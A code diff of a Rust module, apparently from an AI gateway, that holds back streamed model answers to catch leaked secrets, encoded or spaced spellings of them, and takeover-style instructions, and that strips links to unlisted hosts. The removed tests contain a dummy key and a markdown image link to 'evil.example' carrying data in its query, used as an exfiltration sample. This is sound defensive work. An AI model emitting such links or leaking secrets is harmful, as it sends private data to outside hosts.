@@ -1,257 +1,370 @@
 //! A streamed answer, screened before it is let go.
+//!
+//! What is held is no more than what may still turn into something that must not go out: the letters
+//! that are the beginning of a secret, an address that is being written, a word that may be an
+//! encoding. Prose passes at once, so that a reader waits for nothing.
 
+use super::links::open_address;
+use super::secrets::{Walk, is_kept};
 use super::{Leak, Secrets, neutralise};
 use crate::guard::Guard;
 use crate::report::{Action, Report};
-use clawdbot_domain::Channel;
+use clawdbot_domain::{Channel, Event, sha256_hex};
+use std::collections::VecDeque;
+use std::sync::Arc;
 
-/// The least that is held back, in bytes: an address that is just being written.
-const LEAST_HELD: usize = 256;
-
-/// The most that is held back. A reader waits for no more than this.
+/// The most that is held back, in bytes. A reader waits for no more than this.
 const MOST_HELD: usize = 4096;
 
-/// How much of what was said is judged together with what comes, in bytes.
-const WINDOW: usize = 2048;
+/// Fewer letters than these that a secret begins with tell nothing, and every word has some.
+const LOOSE: usize = 4;
 
-/// How much must have come before the detector looks again.
-const STRIDE: usize = 512;
+/// How far into a secret the end of the longest held text may be.
+const SURELY: usize = 8;
+
+/// A word of letters alone passes at once up to this length: no longer one is written in prose.
+const WORD: usize = 20;
+
+/// The shortest word that may be an encoding: what is decoded is no shorter.
+const ENCODED: usize = 16;
+
+/// How much of what was said is looked at together with what comes, in bytes.
+const WINDOW: usize = 1024;
+
+/// How much must have come before whole windows are looked at again.
+const STRIDE: usize = 1024;
 
 /// What an answer is held against. Plain values; it knows no setting.
 #[derive(Debug, Clone, Default)]
 pub struct Outward {
-    /// What must not go out.
-    pub secrets: Secrets,
+    /// What must not go out: what the gateway knows, and what was planted for this turn.
+    pub secrets: Vec<Arc<Secrets>>,
     /// The hosts that links and images may lead to; nothing is neutralised without a list.
     pub hosts: Option<Vec<String>>,
-    /// Who judges what the model says.
-    pub guard: Guard,
+    /// Who judges what the model says, if anyone.
+    pub guard: Option<Guard>,
+}
+
+impl Outward {
+    /// The first secret that stands in a text, in any encoding.
+    pub fn find(&self, text: &str) -> Option<Leak> {
+        self.secrets.iter().find_map(|secrets| secrets.find(text))
+    }
+
+    /// The first secret that stands in a text as it is or in one layer of encoding.
+    pub fn find_plain(&self, text: &str) -> Option<Leak> {
+        let mut all = self.secrets.iter();
+        all.find_map(|secrets| secrets.find_plain(text))
+    }
 }
 
 /// Why an answer was stopped.
 #[derive(Debug, Clone, PartialEq)]
 pub enum Stopped {
     /// It carries a secret.
-    Leak(Leak),
+    Leak {
+        /// Which, and how.
+        leak: Leak,
+        /// The hash of the text it stands in.
+        text_sha256: String,
+    },
     /// It reads like an attack.
     Finding(Box<Report>),
 }
 
+impl Stopped {
+    /// A secret in this text.
+    pub fn leak(leak: Leak, text: &str) -> Self {
+        let text_sha256 = sha256_hex(text.as_bytes());
+        Self::Leak { leak, text_sha256 }
+    }
+
+    /// As it is written in the log.
+    pub fn event(&self) -> Event {
+        match self {
+            Self::Leak { leak, text_sha256 } => Event::GuardFinding {
+                channel: Channel::Model,
+                action: "stopped".to_owned(),
+                score: 1.0,
+                findings: vec![leak.rule()],
+                text_sha256: text_sha256.clone(),
+            },
+            Self::Finding(report) => report.event(),
+        }
+    }
+
+    /// For whoever asked. It does not say which secret: that is for the log.
+    pub fn public(&self) -> &'static str {
+        match self {
+            Self::Leak { .. } => {
+                "the answer was stopped on its way out, because it holds something that must not leave the gateway; the audit log says what"
+            }
+            Self::Finding(_) => {
+                "the answer was stopped on its way out, because it reads like instructions to take over an assistant; the audit log says more"
+            }
+        }
+    }
+}
+
+/// A part of an answer that may go.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct Released {
+    /// What to show.
+    pub text: String,
+    /// How many bytes of what the model said it stands for.
+    pub of: usize,
+    /// The hosts of the addresses that were taken out; when there are none, the text is what the
+    /// model said.
+    pub removed: Vec<String>,
+}
+
 /// The part of a streamed answer that is not let go yet.
 ///
-/// Chunks go in, text that was looked at comes out. No byte of a secret is let go: what is held is
-/// longer than its longest spelling. After a stop nothing comes out any more.
+/// Chunks go in, text that was looked at comes out. Of a secret in one layer of encoding no more than
+/// three letters are let go, whatever stands between them. After a stop nothing comes out any more.
 #[derive(Debug, Clone)]
 pub struct Holdback<'o> {
     outward: &'o Outward,
+    walks: Vec<Walk>,
+    /// Where the last letters stand, a place a byte, from the beginning of the answer.
+    letters: VecDeque<usize>,
+    most_letters: usize,
     held: String,
+    /// How much was let go.
+    gone: usize,
+    /// From where on words have not been looked at, from the beginning of the answer.
+    word: usize,
     /// The end of what was let go, as the model said it.
     said: String,
     unjudged: usize,
-    removed: Vec<String>,
     stopped: Option<Stopped>,
 }
 
 impl<'o> Holdback<'o> {
     /// For one answer.
     pub fn new(outward: &'o Outward) -> Self {
+        let longest = outward.secrets.iter().map(|secrets| secrets.longest());
         Self {
             outward,
+            walks: outward.secrets.iter().map(|s| Walk::new(s)).collect(),
+            letters: VecDeque::new(),
+            most_letters: longest.max().unwrap_or(0),
             held: String::new(),
+            gone: 0,
+            word: 0,
             said: String::new(),
             unjudged: 0,
-            removed: Vec::new(),
             stopped: None,
         }
     }
 
     /// Takes what came and gives what may go. Fails from the first finding on.
-    pub fn push(&mut self, chunk: &str) -> Result<String, Stopped> {
-        self.held.push_str(chunk);
-        self.unjudged += chunk.len();
-        self.look(false)?;
-        let Some(end) = self.cut() else {
-            return Ok(String::new());
-        };
+    pub fn push(&mut self, chunk: &str) -> Result<Released, Stopped> {
+        self.go_on()?;
+        let leak = self.walk(chunk).or_else(|| self.words(false));
+        self.stop_at(leak)?;
+        self.judge(false)?;
+        let end = self.cut();
+        if self.held.len() - end > MOST_HELD {
+            return self.overflow();
+        }
         Ok(self.release(end))
     }
 
     /// The rest, when the answer has ended.
-    pub fn finish(mut self) -> Result<(String, Vec<String>), Stopped> {
-        self.look(true)?;
-        let rest = self.release(self.held.len());
-        Ok((rest, self.removed))
+    pub fn finish(mut self) -> Result<Released, Stopped> {
+        self.go_on()?;
+        let leak = self.words(true);
+        self.stop_at(leak)?;
+        self.judge(true)?;
+        let all = self.held.len();
+        Ok(self.release(all))
     }
 
-    /// The hosts of addresses that were taken out so far.
-    pub fn removed(&self) -> &[String] {
-        &self.removed
+    fn go_on(&self) -> Result<(), Stopped> {
+        self.stopped.clone().map_or(Ok(()), Err)
     }
 
-    fn look(&mut self, last: bool) -> Result<(), Stopped> {
-        if let Some(stopped) = &self.stopped {
-            return Err(stopped.clone());
+    fn stop_at(&mut self, leak: Option<Leak>) -> Result<(), Stopped> {
+        let Some(leak) = leak else { return Ok(()) };
+        let text = self.window();
+        self.stop(Stopped::leak(leak, &text))
+    }
+
+    fn stop(&mut self, why: Stopped) -> Result<(), Stopped> {
+        self.held.clear();
+        self.stopped = Some(why.clone());
+        Err(why)
+    }
+
+    /// One step a letter: a secret that is spelled out, whatever stands between its letters.
+    fn walk(&mut self, chunk: &str) -> Option<Leak> {
+        let from = self.gone + self.held.len();
+        self.held.push_str(chunk);
+        self.unjudged += chunk.len();
+        for (at, letter) in chunk.char_indices().filter(|(_, c)| is_kept(*c)) {
+            for (walk, secrets) in self.walks.iter_mut().zip(&self.outward.secrets) {
+                if let Some(leak) = walk.step(secrets, letter) {
+                    return Some(leak);
+                }
+            }
+            for _ in 0..letter.len_utf8() {
+                self.letters.push_back(from + at);
+            }
         }
-        let found = self.find(last);
-        match found {
-            Some(stopped) => {
-                self.held.clear();
-                self.stopped = Some(stopped.clone());
-                Err(stopped)
+        let surplus = self.letters.len().saturating_sub(self.most_letters);
+        self.letters.drain(..surplus);
+        None
+    }
+
+    /// Words that may be an encoding of something, once they are whole. Their beginnings may be gone,
+    /// because they looked like prose.
+    fn words(&mut self, last: bool) -> Option<Leak> {
+        let all = self.gone + self.held.len();
+        let fresh = self.held.get(self.word.saturating_sub(self.gone)..);
+        let whole = fresh.unwrap_or_default().rfind(breaks);
+        let end = match whole {
+            _ if last => all,
+            Some(at) => self.word.max(self.gone) + at,
+            None => return None,
+        };
+        let before = self.gone.saturating_sub(self.word);
+        let said = self.said.len().checked_sub(before);
+        let said = said.and_then(|at| self.said.get(at..)).unwrap_or_default();
+        let held = (self.word.saturating_sub(self.gone), end - self.gone);
+        let held = self.held.get(held.0..held.1).unwrap_or_default();
+        let whole = format!("{said}{held}");
+        self.word = end;
+        whole
+            .split(breaks)
+            .filter(|word| word.len() >= ENCODED || (word.len() >= SURELY && is_escaped(word)))
+            .find_map(|word| self.outward.find(word))
+    }
+
+    /// Now and then, everything together: what words cannot show one by one.
+    fn judge(&mut self, last: bool) -> Result<(), Stopped> {
+        // A short answer is one window, and its words were looked at.
+        if self.unjudged < STRIDE && !(last && self.unjudged > 0) {
+            return Ok(());
+        }
+        self.unjudged = 0;
+        let window = self.window();
+        if let Some(leak) = self.outward.find(&window) {
+            return self.stop(Stopped::leak(leak, &window));
+        }
+        let guard = self.outward.guard;
+        match guard.and_then(|guard| guard.find(&window, Channel::Model)) {
+            Some(detection) => {
+                let report = Report::new(Channel::Model, Action::Withheld, &window, &detection);
+                self.stop(Stopped::Finding(Box::new(report)))
             }
             None => Ok(()),
         }
     }
 
-    fn find(&mut self, last: bool) -> Option<Stopped> {
-        let window = format!("{}{}", self.said, self.held);
-        if let Some(leak) = self.outward.secrets.find(&window) {
-            return Some(Stopped::Leak(leak));
-        }
-        if !last && self.unjudged < STRIDE {
-            return None;
-        }
-        self.unjudged = 0;
-        let detection = self.outward.guard.find(&window, Channel::Model)?;
-        let report = Report::new(Channel::Model, Action::Withheld, &window, &detection);
-        Some(Stopped::Finding(Box::new(report)))
+    fn window(&self) -> String {
+        format!("{}{}", self.said, self.held)
     }
 
-    /// How much must stay.
-    fn hold(&self) -> usize {
-        // Twice, because a spelling may come with a separator after each letter.
-        (self.outward.secrets.longest() * 2).clamp(LEAST_HELD, MOST_HELD)
+    /// Up to where the held text may go.
+    fn cut(&self) -> usize {
+        let word = self.open_word();
+        let address = self.outward.hosts.as_ref();
+        let address = address.and_then(|_| open_address(&self.held));
+        let secret = self.open_secret();
+        word.min(address.unwrap_or(word))
+            .min(secret.unwrap_or(word))
     }
 
-    /// Up to where the held text may go: not within the part that must stay, nor within a word,
-    /// which may be an address.
-    fn cut(&self) -> Option<usize> {
-        let most = self.held.len().checked_sub(self.hold())?;
-        let most = (0..=most)
-            .rev()
-            .find(|at| self.held.is_char_boundary(*at))?;
-        let part = self.held.get(..most)?;
-        let word = part.rfind(char::is_whitespace).map(|at| at + 1);
-        match word {
-            Some(end) if part.is_char_boundary(end) => Some(end),
-            // A word longer than all that is held is no address to be clicked.
-            _ => (self.held.len() > 2 * MOST_HELD).then_some(most),
+    /// Where the last word begins, when it may be more than a word; else the end.
+    fn open_word(&self) -> usize {
+        let start = self.held.rfind(breaks).map_or(0, |at| {
+            at + self
+                .held
+                .get(at..)
+                .and_then(|t| t.chars().next())
+                .map_or(1, char::len_utf8)
+        });
+        let word = self.held.get(start..).unwrap_or_default();
+        let is_prose = word.len() <= WORD
+            && word.chars().all(char::is_alphabetic)
+            && !word.starts_with(['w', 'W']);
+        // What went before it may belong to it: a letter of an encoding, the slashes of an address.
+        let is_fresh = start > 0 || self.said.chars().next_back().is_none_or(breaks);
+        if is_prose && is_fresh {
+            self.held.len()
+        } else {
+            start
         }
     }
 
-    fn release(&mut self, end: usize) -> String {
+    /// Where letters begin that may be the beginning of a secret.
+    fn open_secret(&self) -> Option<usize> {
+        let depths = self.walks.iter().zip(&self.outward.secrets);
+        let depth = depths.map(|(walk, secrets)| walk.depth(secrets)).max()?;
+        let first = self.letters.len().checked_sub(depth)?;
+        let at = (depth >= LOOSE)
+            .then(|| self.letters.get(first))
+            .flatten()?;
+        Some(at.saturating_sub(self.gone))
+    }
+
+    /// More is held than a reader should wait for. Letters far apart that spell the beginning of a
+    /// secret are no accident; anything else is let go.
+    fn overflow(&mut self) -> Result<Released, Stopped> {
+        let mut depths = self.walks.iter().zip(&self.outward.secrets);
+        let deep = depths.any(|(walk, secrets)| walk.depth(secrets) >= SURELY);
+        let leak = deep.then(|| Leak {
+            name: "secret".to_owned(),
+            through: "separated",
+        });
+        let held = std::mem::take(&mut self.held);
+        let leak = leak.or_else(|| self.outward.find(&held));
+        self.held = held;
+        self.stop_at(leak)?;
+        let all = self.held.len();
+        Ok(self.release(all))
+    }
+
+    fn release(&mut self, end: usize) -> Released {
         let rest = self.held.split_off(end.min(self.held.len()));
         let out = std::mem::replace(&mut self.held, rest);
+        let of = out.len();
+        self.gone += of;
         self.said.push_str(&out);
-        let spare = self.said.len().saturating_sub(WINDOW);
-        let from = (spare..self.said.len()).find(|at| self.said.is_char_boundary(*at));
-        self.said.drain(..from.unwrap_or(spare));
-        let Some(hosts) = &self.outward.hosts else {
-            return out;
+        if self.said.len() > 2 * WINDOW {
+            let spare = self.said.len() - WINDOW;
+            let from = (spare..self.said.len()).find(|at| self.said.is_char_boundary(*at));
+            self.said.drain(..from.unwrap_or(spare));
+        }
+        let (text, removed) = match &self.outward.hosts {
+            None => (out, Vec::new()),
+            Some(hosts) => {
+                let neutral = neutralise(&out, hosts);
+                (neutral.text, neutral.removed)
+            }
         };
-        let neutral = neutralise(&out, hosts);
-        self.removed.extend(neutral.removed);
-        neutral.text
+        Released { text, of, removed }
     }
+}
+
+/// What ends a word. Letters that are written without spaces between words are words of their own.
+fn breaks(c: char) -> bool {
+    c.is_whitespace()
+        || (!c.is_ascii() && c.is_alphabetic() && !is_spaced_script(c))
+        || matches!(c, '。' | '、' | '，' | '！' | '？')
+}
+
+/// Scripts that put spaces between words, beyond ASCII: Latin, Greek, Cyrillic, Hebrew, Arabic, the
+/// Indic scripts and Hangul.
+const fn is_spaced_script(c: char) -> bool {
+    matches!(c, '\u{80}'..='\u{dff}' | '\u{10a0}'..='\u{10ff}' | '\u{1100}'..='\u{11ff}'
+        | '\u{1e00}'..='\u{1fff}' | '\u{ac00}'..='\u{d7af}')
+}
+
+fn is_escaped(word: &str) -> bool {
+    word.contains(['%', '&', '\\'])
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use proptest::prelude::*;
-
-    const SECRET: &str = "sk-test-9fQ2x7Lk0ZtW";
-    const PROSE: &str = "The committee met on Tuesday and talked about the bridge over the river. ";
-
-    fn outward() -> Outward {
-        Outward {
-            secrets: Secrets::new([("provider", SECRET)]).unwrap(),
-            hosts: Some(vec!["good.example".to_owned()]),
-            guard: Guard::default(),
-        }
-    }
-
-    /// What a reader got, and whether the answer was stopped.
-    fn stream(outward: &Outward, text: &str, size: usize) -> (String, bool) {
-        let mut holdback = Holdback::new(outward);
-        let mut got = String::new();
-        let chars: Vec<char> = text.chars().collect();
-        for chunk in chars.chunks(size) {
-            match holdback.push(&chunk.iter().collect::<String>()) {
-                Ok(part) => got.push_str(&part),
-                Err(_) => return (got, true),
-            }
-        }
-        match holdback.finish() {
-            Ok((rest, _)) => (got + &rest, false),
-            Err(_) => (got, true),
-        }
-    }
-
-    #[test]
-    fn not_one_byte_of_a_secret_gets_out_however_it_is_cut() {
-        let spaced: String = SECRET.chars().flat_map(|c| [c, ' ']).collect();
-        let hexed = clawdbot_domain::hex(SECRET.as_bytes());
-        for spelled in [SECRET, &spaced, &hexed] {
-            let text = format!("{}{spelled} and so on. {PROSE}", PROSE.repeat(12));
-            for size in [1, 7, 64, 5000] {
-                let (got, stopped) = stream(&outward(), &text, size);
-                assert!(stopped, "{spelled} {size}");
-                assert!(PROSE.repeat(12).starts_with(&got), "{size} {got}");
-            }
-        }
-    }
-
-    #[test]
-    fn an_address_is_taken_out_wherever_it_is_cut() {
-        let link = "![x](https://evil.example/p?d=abc) ";
-        let text = format!("{}{link}{}", PROSE.repeat(5), PROSE.repeat(9));
-        for size in 1..60 {
-            let (got, stopped) = stream(&outward(), &text, size);
-            assert!(!stopped);
-            assert!(
-                got.contains("address removed") && !got.contains("d=abc"),
-                "{size} {got}"
-            );
-        }
-    }
-
-    #[test]
-    fn an_answer_without_findings_arrives_whole_and_is_not_held_to_its_end() {
-        let text = PROSE.repeat(60);
-        let outward = outward();
-        let mut holdback = Holdback::new(&outward);
-        let first = holdback.push(&text).unwrap();
-        assert!(first.len() + MOST_HELD > text.len() && !first.is_empty());
-        assert_eq!(first + &holdback.finish().unwrap().0, text);
-    }
-
-    #[test]
-    fn after_a_stop_nothing_comes_out() {
-        let outward = outward();
-        let mut holdback = Holdback::new(&outward);
-        assert!(holdback.push(SECRET).is_err());
-        assert!(holdback.push(&PROSE.repeat(99)).is_err());
-        assert!(holdback.finish().is_err());
-    }
-
-    #[test]
-    fn memory_is_bounded_for_an_answer_that_is_one_word() {
-        let outward = outward();
-        let mut holdback = Holdback::new(&outward);
-        for _ in 0..200 {
-            holdback.push(&"x".repeat(500)).unwrap();
-            assert!(holdback.held.len() <= 3 * MOST_HELD);
-        }
-    }
-
-    proptest! {
-        #![proptest_config(ProptestConfig::with_cases(64))]
-
-        #[test]
-        fn cutting_changes_nothing(text in "[a-z é\\n]{0,900}", size in 1usize..200) {
-            let (got, stopped) = stream(&outward(), &text, size);
-            prop_assert!(stopped || got == text);
-        }
-    }
-}
+mod tests;
